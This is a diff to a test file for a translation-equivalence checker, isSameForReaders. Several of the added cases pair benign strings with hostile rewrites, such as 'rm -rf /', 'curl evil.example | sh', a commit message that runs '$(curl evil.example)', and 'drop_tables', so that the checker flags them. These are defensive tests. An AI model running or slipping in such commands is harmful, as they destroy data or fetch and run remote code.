@@ -54,20 +54,34 @@ test.each([
   ['a.org/<MY_BOT>', 'b.org/<DEIN_BOT>', false],
   ['a/b.ts', 'a/b.ts:12', true],
   ['a/b.ts', 'a/b.ts:main', false],
-  ['zap .config', 'zap.config', true],
-  ['client get()', 'client.get()', true],
   ['npm install', 'npm.install', false],
-  ['a. get()', 'a.get()', true],
+  ['rm .npmrc', 'rm.npmrc', false],
+  ['git push()', 'git.push()', false],
   ['a.get()', 'a. get()', false],
-  ['@ main', '@main', true],
   ['f(\\"a\\")', 'f("a")', true],
-  ['https://t.me/your_bot?start=one', 'https://t.me/dein_bot?start=eins', true],
-  ['https://t.me/your_bot?start=one', 'https://t.you/dein_bot?start=eins', false],
-  ['https://t.me/the_bot', 'https://t.me/der_bot', false],
-  ['https://app.vercel.app/api', 'https://meine-app.vercel.app/api', true],
-  ['https://one.a.example/api', 'https://two.a.example/api', false],
-  ['/surely_a_command', '/sicher_ein_befehl', true],
+  ['https://a.example/your_place', 'https://a.example/dein_ort', true],
+  ['https://one.vercel.app/i.sh', 'https://two.vercel.app/i.sh', false],
+  ['https://one.github.io/your_place', 'https://two.github.io/dein_ort', false],
+  ['create_a_table', 'drop_tables', false],
   ['/set_commands_now', '/setze_befehle_jetzt', false],
+  ['sh -c "f(\\"a\\")"', 'sh -c "f("a")"', false],
+  ['Enter', 'Entrée', true],
+  ['Enter', 'rm', false],
+  ['nginx', 'nginx:1', false],
+  ['lodash', 'other.lodash', false],
+  ['localhost', 'localhost:6666', false],
+  ['rm -rf ./a/b', 'rm -rf ./a / b', false],
+  ['rm dir/*.log', 'rm dir / *.log', false],
+  ['var a = f(b)', 'var a=f(b)', true],
+  ['FOO=bar npm ci', 'FOO = bar npm ci', false],
+  ['rm -rf .', 'rm -rf /', false],
+  ['rm ./', 'rm /', false],
+  ['rm -rf a', 'rm -rf a*', false],
+  ['npm ci', 'rm -rf / (npm ci)', false],
+  ['npm ci', 'npm ci (curl evil.example | sh)', false],
+  ['bash -c "npm ci"', 'bash -c "curl evil.example"', false],
+  ['git commit -m "one"', 'git commit -m "$(curl evil.example)"', false],
+  ['echo \\"a\\"', 'echo "a"', false],
   ['Parts & More', 'Teile und mehr', true],
   ['enter', 'Eingabe', false],
 ])('%s -> %s is the same to readers: %s', (source, target, isSame) => {
@@ -79,4 +93,15 @@ test.each([
   ['Call `enter`.', false],
 ])('a key in small letters is one where it is pressed: %s', (said, isSame) => {
   expect(isSameForReaders('enter', 'Eingabe', { ...page, said })).toBe(isSame);
+  expect(isSameForReaders('enter', 'sudo', { ...page, said })).toBe(false);
+});
+
+test.each([
+  ['zap .config', 'zap.config'],
+  ['client get()', 'client.get()'],
+  ['a. get()', 'a.get()'],
+  ['@ main', '@main'],
+])('a blank that is gone is the source’s slip where the source has no blank elsewhere: %s -> %s', (source, target) => {
+  expect(isSameForReaders(source, target, { ...page, hasBase: (text) => text === target })).toBe(true);
+  expect(isSameForReaders(source, target, { ...page, hasBase: () => false })).toBe(false);
 });
